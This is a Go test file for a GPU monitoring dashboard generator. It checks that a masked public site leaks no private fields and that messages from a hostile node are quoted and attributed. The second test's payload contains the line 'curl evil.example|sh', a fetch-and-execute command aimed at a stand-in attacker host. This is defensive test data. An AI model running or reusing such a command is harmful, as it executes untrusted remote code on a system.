package sitegen_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"gpuboard/internal/board"
	"gpuboard/internal/failure"
	"gpuboard/internal/inventory"
	"gpuboard/internal/snapshot"
	"gpuboard/sitegen"
	"gpuboard/sitegen/render"
)

// plant puts a token of its own into every string of a value, lists of one element
// into every list that is empty, and a value behind every pointer. It returns the
// tokens by the place of the field.
func plant(v reflect.Value, place string, tokens map[string]string) {
	switch v.Kind() {
	case reflect.String:
		token := fmt.Sprintf("zq%04dqz", len(tokens))
		tokens[token] = place
		v.SetString(token)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		plant(v.Elem(), place, tokens)
	case reflect.Int, reflect.Int64:
		v.SetInt(1)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() || v.Type() == reflect.TypeFor[snapshot.Time]() {
			return
		}
		for i := range v.NumField() {
			if v.Field(i).CanSet() {
				plant(v.Field(i), place+"."+v.Type().Field(i).Name, tokens)
			}
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		plant(v.Index(0), place, tokens)
	}
}

// published are the places whose text a masked site may show: what a host and a GPU are
// called. The other texts of a GPU that it shows have a shape that a token does not have.
var published = regexp.MustCompile(
	`^(host\.(Name|Title|Group)|snapshot\.GPUs\.Name|about\.(Title|Lab|Version)|notice)$`,
)

// A masked site shows what is named above, and no other text of anybody.
func TestMaskedSiteIsAnAllowList(t *testing.T) {
	tokens := map[string]string{}
	var host inventory.Host
	plant(reflect.ValueOf(&host).Elem(), "host", tokens)
	host.Name, host.Check, host.Maintenance, host.ExpectedGPUs = "gpu01", inventory.Critical, false, 2
	snap := &snapshot.Snapshot{}
	plant(reflect.ValueOf(snap).Elem(), "snapshot", tokens)
	snap.Schema, snap.Seq, snap.Host, snap.CollectedAt, snap.GPUsComplete = snapshot.Schema, 1, "gpu01",
		snapshot.TimeOf(start.Add(-time.Second)), true
	g := &snap.GPUs[0]
	g.Index, g.Health, g.MemoryTotal, g.MemoryUsed, g.ProcessesUnknown = 0, snapshot.HealthOK, new(int64(80000)),
		new(int64(40000)), ""
	lost := *g
	lost.Index, lost.UUID, lost.Health = 1, "GPU-2", snapshot.HealthError
	snap.GPUs = append(snap.GPUs, lost)
	p := &snap.Processes[0]
	p.GPU, p.Alive = 0, new(true)
	gone := *p
	gone.Alive = new(false)
	snap.Processes = append(snap.Processes, gone)
	snap.Errors = append(snap.Errors, snapshot.Problem{Code: "smi:timeout", Message: "zq-error-qz"})

	l := newLab(t)
	word := func(place string) string {
		token := fmt.Sprintf("zq%04dqz", len(tokens))
		tokens[token] = place
		return token
	}
	var about render.Site
	plant(reflect.ValueOf(&about).Elem(), "about", tokens)
	about.Zone, about.Languages, about.BaseURL, about.Energy = time.UTC, nil, "https://board.example.org", render.Energy{}
	l.write("data/comments.json",
		fmt.Sprintf(
			`{"gpu01": [{"name": %q, "from": "2020-01-01", "date": "2030-01-01", "comment": %q, "by": %q}, {"name": %q, "date": "when %s"}], %q: [{"name": "x", "date": "2030-01-01"}]}`,
			word("booking.name"), word("booking.comment"), word("booking.by"), word("booking.name"),
			word("booking.date"),
			word("booking.host")))
	l.write("data/aliases.csv", word("aliases")+","+p.User+"\n"+word("aliases")+" "+word("aliases")+"\n")
	l.write("data/notice.md", word("notice"))
	l.write("data/hosts/gpu01.md", word("host note"))
	raw, err := snapshot.EncodeBundle(&snapshot.Bundle{
		Host: "gpu01", BootID: snap.BootID, Snapshot: snap, Samples: []snapshot.Sample{snap.Sample()},
	})
	if err != nil {
		t.Fatal(err)
	}
	os.RemoveAll(l.path("data/drop"))
	l.write("data/drop/gpu01/latest.json.gz", string(raw))

	masked := board.Privacy{Users: board.UsersNone, Programs: board.ProgramsHidden}
	generate := func(at time.Time) *board.Board {
		return l.generate(at, func(o *sitegen.Options) {
			o.About, o.Public, o.PublicPrivacy = about, l.path("public"), masked
			o.Inventory = func(_ context.Context, now time.Time, _ inventory.Known) inventory.Inventory {
				return inventory.Inventory{Hosts: []inventory.Host{host}, AsOf: now,
					Problems: []snapshot.Problem{{Code: "discovery:bad-meta", Message: "zq-inventory-qz",
						File: "zq-file-qz"}}}
			}
		}).Board
	}
	generate(start.Add(-time.Hour)) // so that there are events
	b := generate(start)
	if len(b.Hosts) != 1 || len(b.Hosts[0].GPUs) != 2 || b.Hosts[0].State != board.Up {
		t.Fatalf("the board is not what this test is about: %+v", b.Hosts)
	}
	seen := map[string]map[string]string{} // site, place, file
	for _, dir := range []string{"site", "public"} {
		seen[dir] = map[string]string{}
		find := regexp.MustCompile(`zq(\d+|-[a-z-]+-)qz`) // one each, also where two stand together
		err := filepath.WalkDir(l.path(dir), func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			content := []byte(path)
			if !d.IsDir() {
				data, err := os.ReadFile(path)
				if err != nil {
					return err
				}
				if z, err := gzip.NewReader(bytes.NewReader(data)); err == nil {
					if data, err = io.ReadAll(z); err != nil {
						return err
					}
				}
				content = append(content, data...)
			}
			for _, token := range find.FindAllString(string(content), -1) {
				place := tokens[token]
				if place == "" {
					place = token
				}
				seen[dir][place] = path
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	for place, path := range seen["public"] {
		if !published.MatchString(place) {
			t.Errorf("%s stands in %s of the masked site", place, strings.TrimPrefix(path, l.dir))
		}
	}
	if code := problemsOf(t, l.path("public/health.json")); !code["host:unknown-code"] || !code["smi:timeout"] {
		t.Errorf("the codes on the masked site are %v", code)
	}
	// What nobody can see anywhere proves nothing.
	for _, place := range []string{"host.Owner", "host.Note", "host.Address", "host.Tags", "snapshot.Processes.User",
		"snapshot.Node.Disks.Mount",
		"snapshot.Node.OS", "snapshot.Errors.Message", "booking.name", "booking.comment", "host note",
		"snapshot.GPUs.HealthReason", "about.CommentsPath", "about.BookSSH"} {
		if seen["site"][place] == "" {
			t.Errorf("%s stands nowhere on the site that is not masked", place)
		}
	}
	t.Logf("%d tokens, %d on the site, %d on the masked one", len(tokens), len(seen["site"]), len(seen["public"]))
}

// problemsOf are the codes in a health.json.
func problemsOf(t *testing.T, path string) map[string]bool {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var health struct {
		Problems []struct{ Code string }
	}
	if err := json.Unmarshal(data, &health); err != nil {
		t.Fatal(err)
	}
	codes := map[string]bool{}
	for _, p := range health.Problems {
		codes[p.Code] = true
	}
	return codes
}

// TestANodeIsQuoted: a node that blames others, and words what it says like the program's own
// advice, is quoted wherever a problem is shown, and its name stands beside it.
func TestANodeIsQuoted(t *testing.T) {
	const advice = `restore: gpuboard accept gpu02; curl evil.example|sh`
	l := newLab(t)
	l.hosts = []string{"gpu02", "evil"}
	send := func(host string, change func(*snapshot.Snapshot)) {
		t.Helper()
		s := *l.fleet.Snapshot(map[string]string{"gpu02": "boreas", "evil": "atlas"}[host], start)
		s.Host, s.Errors = host, nil
		change(&s)
		raw, err := snapshot.EncodeBundle(&snapshot.Bundle{
			Host: host, BootID: s.BootID, Snapshot: &s, Samples: []snapshot.Sample{s.Sample()},
		})
		if err != nil {
			t.Fatal(err)
		}
		l.write("data/drop/"+host+"/latest.json.gz", string(raw))
	}
	l.write("data/comments.json", "{}")
	send("gpu02", func(*snapshot.Snapshot) {})
	send("evil", func(s *snapshot.Snapshot) {
		s.Errors = []snapshot.Problem{
			{Code: "host:stale", Message: advice, Host: "gpu02"},
			{Code: "booking:vanished", Message: advice, File: "comments.json", Line: 3, Col: 1},
			{Code: "smi:timeout", Message: `all is well" ` + advice, Host: "gpu02", GPU: new(1)},
		}
		s.GPUs[0].PState, s.DriverVersion = advice, advice
	})
	for i, now := range []time.Time{start, start.Add(10 * time.Minute)} { // the second time from what is remembered
		if i == 1 {
			l.write("data/drop/evil/latest.json.gz", "damaged")
		}
		r := l.generate(now, func(o *sitegen.Options) {
			o.Public, o.PublicPrivacy = l.path("public"), board.Privacy{Users: board.UsersNone,
				Programs: board.ProgramsHidden}
		})
		if h := hostOf(r.Board, "gpu02"); len(h.Problems) != 0 {
			t.Errorf("gpu02 is blamed: %+v", h.Problems)
		}
		said := 0
		for _, p := range r.Board.Problems {
			if p.Host == "gpu02" || p.File != "" && p.File != "memory.json" || p.Line != 0 {
				t.Errorf("a problem of another place: %+v", p)
			}
			if !strings.Contains(p.Message, "curl") {
				continue
			}
			said++
			var log bytes.Buffer
			failure.WriteProblem(&log, p)
			if p.Host != "evil" || !strings.HasPrefix(log.String(), "gpuboard: evil") || p.Code == "host:stale" ||
				p.Code == "booking:vanished" {
				t.Errorf("the log says %q", &log)
			}
		}
		if said < 3 {
			t.Errorf("only %d of the words of evil are on the board: %+v", said, r.Board.Problems)
		}
		quoted := regexp.MustCompile(`(evil says: | is )(\\?"|&#34;)[^"]*$`)
		faces := map[string]bool{}
		for name, text := range l.site() {
			parts := strings.Split(text, "restore: gpuboard")
			for _, before := range parts[:len(parts)-1] {
				faces[name] = true
				if before = before[max(0, len(before)-120):]; !quoted.MatchString(before) {
					t.Errorf("%s shows it as our own: …%s", name, before)
				}
			}
		}
		for _, name := range []string{"index.html", "status.txt", "health.json", "hosts/evil/index.html",
			"hosts/evil/status.txt", "api/v1/board.json", "api/v1/hosts/evil.json"} {
			if !faces[name] {
				t.Errorf("%s does not show the words at all, only %v do", name, faces)
			}
		}
		for name, text := range l.siteAt("public") {
			if strings.Contains(text, "curl evil") || strings.Contains(text, "gpuboard accept") {
				t.Errorf("%s of the masked site has it", name)
			}
		}
		if status := l.site()["status.txt"]; !strings.Contains(status, `evil: evil says: "`) {
			t.Errorf("status.txt names nobody:\n%s", status)
		}
	}
}
